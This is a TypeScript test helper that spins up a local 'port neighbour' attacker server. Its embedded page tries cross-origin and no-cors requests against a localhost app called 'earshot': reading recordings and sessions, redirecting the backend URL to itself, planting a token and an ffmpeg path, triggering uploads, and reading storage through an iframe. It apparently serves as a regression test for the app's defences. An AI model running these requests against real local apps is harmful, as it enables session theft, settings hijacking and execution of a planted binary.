import { createServer, type IncomingHttpHeaders } from 'node:http'
import type { AddressInfo } from 'node:net'

export interface ReceivedRequest {
  method: string
  url: string
  headers: IncomingHttpHeaders
  body: string
}

export interface PortNeighbour {
  origin: string
  /** Every request the browser sent it, headers and body as received. */
  received: ReceivedRequest[]
  /** What its page found out and reported back (see attackPage). */
  report: () => Record<string, unknown> | null
  close: () => Promise<void>
}

/**
 * Another web server on 127.0.0.1, on another port, as any local dev server or app could be: the
 * issue 9 attacker. It keeps every request it gets (cookies included) and serves a page that tries
 * every way into web mode it can from there, then posts what it learned back to `/report`.
 */
export async function startPortNeighbour(target: {
  webOrigin: string
  recordingId: string
}): Promise<PortNeighbour> {
  const received: ReceivedRequest[] = []
  let report: Record<string, unknown> | null = null
  const server = createServer((req, res) => {
    const chunks: Buffer[] = []
    req.on('data', (chunk: Buffer) => chunks.push(chunk))
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8')
      received.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body })
      if (req.url === '/report') {
        report = JSON.parse(body) as Record<string, unknown>
        res.writeHead(204).end()
        return
      }
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
      res.end(attackPage(target.webOrigin, target.recordingId))
    })
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  const { port } = server.address() as AddressInfo
  return {
    origin: `http://127.0.0.1:${port}`,
    received,
    report: () => report,
    close: () =>
      new Promise<void>((done) => {
        server.closeAllConnections()
        server.close(() => {
          done()
        })
      }),
  }
}

/** The attacker's page: plain browser JavaScript, no framework, results posted to /report. */
function attackPage(webOrigin: string, recordingId: string): string {
  const script = `
const web = ${JSON.stringify(webOrigin)}
const id = ${JSON.stringify(recordingId)}
const results = {}
const attempt = async (name, run) => {
  try { results[name] = await run() } catch (error) { results[name] = 'threw: ' + error.name }
}
const text = async (response) => response.type === 'opaque' ? 'opaque' : response.status + ' ' + (await response.text())
const jsonPost = (channel, body, init) => fetch(web + '/api/' + channel, {
  method: 'POST', credentials: 'include', body: JSON.stringify(body), ...init })
const mediaElement = (tag) => new Promise((done) => {
  const element = document.createElement(tag)
  element.addEventListener('loadedmetadata', () => done('loaded'))
  element.addEventListener('error', () => done('error'))
  element.src = web + '/api/media/' + id
  document.body.append(element)
  setTimeout(() => done('timeout'), 5000)
})
;(async () => {
  results.cookie = document.cookie
  results.ownSessionStorage = sessionStorage.getItem('earshot.session')
  await attempt('corsList', async () => text(await jsonPost('recordings.list', undefined, { headers: { 'content-type': 'application/json' } })))
  await attempt('noCorsList', async () => text(await jsonPost('recordings.list', undefined, { mode: 'no-cors', headers: { 'content-type': 'text/plain' } })))
  await attempt('setBackendUrl', async () => text(await jsonPost('settings.set', { key: 'backend.url', value: location.origin }, { mode: 'no-cors', headers: { 'content-type': 'text/plain' } })))
  await attempt('setBackendToken', async () => text(await jsonPost('backend.setToken', { token: 'planted-token-0001' }, { mode: 'no-cors', headers: { 'content-type': 'text/plain' } })))
  await attempt('setFfmpegPath', async () => text(await jsonPost('settings.set', { key: 'media.ffmpegPath', value: '/tmp/planted/ffmpeg' }, { mode: 'no-cors', headers: { 'content-type': 'text/plain' } })))
  await attempt('sendUploads', async () => text(await jsonPost('uploads.send', { ids: [id] }, { mode: 'no-cors', headers: { 'content-type': 'text/plain' } })))
  await attempt('corsMedia', async () => text(await fetch(web + '/api/media/' + id, { credentials: 'include' })))
  await attempt('noCorsMedia', async () => text(await fetch(web + '/api/media/' + id, { mode: 'no-cors', credentials: 'include' })))
  await attempt('corsSession', async () => text(await fetch(web + '/api/session', { credentials: 'include' })))
  await attempt('audio', () => mediaElement('audio'))
  await attempt('video', () => mediaElement('video'))
  await attempt('events', () => new Promise((done) => {
    const source = new EventSource(web + '/api/events', { withCredentials: true })
    source.onopen = () => { source.close(); done('open') }
    source.onerror = () => { source.close(); done('error') }
  }))
  await attempt('frame', () => new Promise((done) => {
    const frame = document.createElement('iframe')
    frame.src = web + '/'
    frame.onload = () => {
      try { done('read: ' + frame.contentWindow.sessionStorage.getItem('earshot.session')) }
      catch (error) { done('threw: ' + error.name) }
    }
    document.body.append(frame)
    setTimeout(() => done('timeout'), 5000)
  }))
  await fetch('/report', { method: 'POST', body: JSON.stringify(results) })
  document.title = 'reported'
})()
`
  return `<!doctype html><meta charset="utf-8"><title>neighbour</title><body><script>${script}</script>`
}
